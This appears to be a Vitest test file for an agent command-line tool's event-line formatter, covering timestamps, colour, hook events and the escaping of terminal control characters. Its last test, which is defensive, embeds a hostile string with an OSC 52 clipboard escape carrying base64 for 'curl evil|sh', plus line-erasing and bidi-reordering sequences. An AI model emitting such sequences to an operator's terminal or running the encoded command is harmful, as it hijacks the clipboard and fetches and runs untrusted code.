import { describe, expect, it } from "vitest";
import type { AgentEvent } from "../../../src/events/agent-event.js";
import { formatEventLine } from "../../../src/cli/terminal/event-line.js";

const observation: AgentEvent = {
  id: 7,
  agent: "writer",
  run: "r_1",
  type: "observation",
  time: "2030-01-01T09:41:25.000Z",
  data: { call_id: "c1", tool: "shell", ok: true, output: "a\nb", duration_ms: 12 },
};

describe("formatEventLine", () => {
  it("prints an in-process event and the same event served by a daemon alike", () => {
    const served = JSON.parse(JSON.stringify(observation)) as unknown as Parameters<
      typeof formatEventLine
    >[0];
    const line = formatEventLine(observation, { color: false, cursor: true });
    expect(line).toBe("#7 09:41:25 r_1 observation ✓ shell (12 ms) a b");
    expect(formatEventLine(served, { color: false, cursor: true })).toBe(line);
    expect(formatEventLine(observation, { color: false, cursor: false })).toBe(
      "09:41:25 observation ✓ shell (12 ms) a b",
    );
  });

  it("colours only when asked", () => {
    expect(formatEventLine(observation, { color: false, cursor: false })).not.toContain("\u001b");
    expect(formatEventLine(observation, { color: true, cursor: false })).toContain("\u001b[");
  });

  it("keeps a thought's lines, indented under the first, and survives missing fields", () => {
    const thought = { id: 1, run: null, type: "thought", time: observation.time, data: { text: "one\ntwo" } };
    expect(formatEventLine(thought, { color: false, cursor: false })).toBe(
      `09:41:25 thought     one\n${" ".repeat(21)}two`,
    );
    const bare = { id: 2, run: null, type: "observation", time: observation.time, data: {} };
    expect(formatEventLine(bare, { color: false, cursor: true })).toBe(
      "#2 09:41:25 - observation ✗  (? ms) ",
    );
  });

  it("says which hook ran, on which tool, and how it ended", () => {
    const hook = {
      id: 3,
      run: "r_1",
      type: "hook",
      time: observation.time,
      data: {
        hook: "before_tool",
        command: "./check.sh",
        outcome: "denied",
        tool: "shell",
        message: "no rm\n",
      },
    };
    expect(formatEventLine(hook, { color: false, cursor: false })).toBe(
      "09:41:25 hook        before_tool · denied · shell · ./check.sh · no rm",
    );
    const runEnd = { ...hook, data: { hook: "on_run_end", command: "notify", outcome: "ok" } };
    expect(formatEventLine(runEnd, { color: false, cursor: true })).toBe(
      "#3 09:41:25 r_1 hook        on_run_end · ok · notify",
    );
  });

  /**
   * What an agent read or wrote (a hostile page's bytes in a tool's output, the model's own text)
   * reaches the operator's terminal through `agentd run` and `agentd events`: its control
   * sequences must not act there — set the clipboard (OSC 52), erase or rewrite lines above an
   * approval prompt (CSI, a carriage return), or reorder what is shown (bidi overrides).
   */
  it("shows the control characters an agent's text holds, never sends them to the terminal", () => {
    const hostile = "safe\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2A\u001b[2Kdone\r\u009b31m\u202eevil\u0000";
    const shown = [
      formatEventLine(
        { ...observation, data: { ...observation.data, output: hostile } },
        { color: false, cursor: false },
      ),
      formatEventLine(
        { id: 1, run: null, type: "thought", time: observation.time, data: { text: hostile } },
        { color: false, cursor: false },
      ),
      formatEventLine(
        {
          id: 2,
          run: null,
          type: "action",
          time: observation.time,
          data: { tool: "shell", arguments: hostile },
        },
        { color: true, cursor: false },
      ),
    ];
    for (const line of shown) {
      // eslint-disable-next-line no-control-regex -- the terminal's control characters are the point
      const withoutColours = line.replace(/\u001b\[[0-9;]*m/g, "");
      expect(withoutColours).not.toMatch(
        // eslint-disable-next-line no-control-regex -- the terminal's control characters are the point
        /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/,
      );
      expect(withoutColours).toContain("\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007");
    }
  });
});
